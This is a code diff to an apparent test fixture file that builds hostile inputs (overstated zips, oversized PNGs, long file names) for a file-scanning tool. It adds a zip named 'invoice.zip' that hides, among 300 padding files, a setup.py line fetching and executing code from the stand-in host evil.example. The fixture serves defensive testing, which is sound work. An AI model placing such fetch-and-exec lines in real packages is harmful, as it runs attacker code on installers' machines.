@@ -40,6 +40,7 @@ export const HOSTILE = {
   'a zip that holds less than it says': { name: 'overstated.zip', make: overstated },
   'a zip with a program behind empty blocks': { name: 'silence.zip', make: silence },
   'a zip with a program behind many files': { name: 'crowd.zip', make: crowd },
+  'a zip of scripts that fetch what they run': { name: 'invoice.zip', make: scripts },
   'a zip of names of a thousand characters': { name: 'names.zip', make: longNames },
   'a PNG of 60,000 by 60,000 pixels': { name: 'huge.png', make: hugePng },
   'a PNG tiled with the patterns of QR codes': { name: 'tiled.png', make: () => tiledPng(1_728, { module: 2 }) },
@@ -127,6 +128,12 @@ function silence(): Uint8Array {
 function crowd(): Uint8Array {
   const files = Array.from({ length: 300 }, (_, at) => ({ path: `${at}.txt`, content: `${at} `.repeat(5_000) }));
   return zip([...files, { path: 'readme.txt', content: pe({}) }]);
+}
+
+/** One among so many that it is seen at a glance alone. */
+function scripts(): Uint8Array {
+  const many = Array.from({ length: 300 }, (_, at) => ({ path: `lib/${at}.py`, content: 'pass\n'.repeat(100) }));
+  return zip([...many, { path: 'lib/setup.py', content: 'exec(requests.get("https://evil.example/x").text)\n' }]);
 }
 
 function longNames(): Uint8Array {
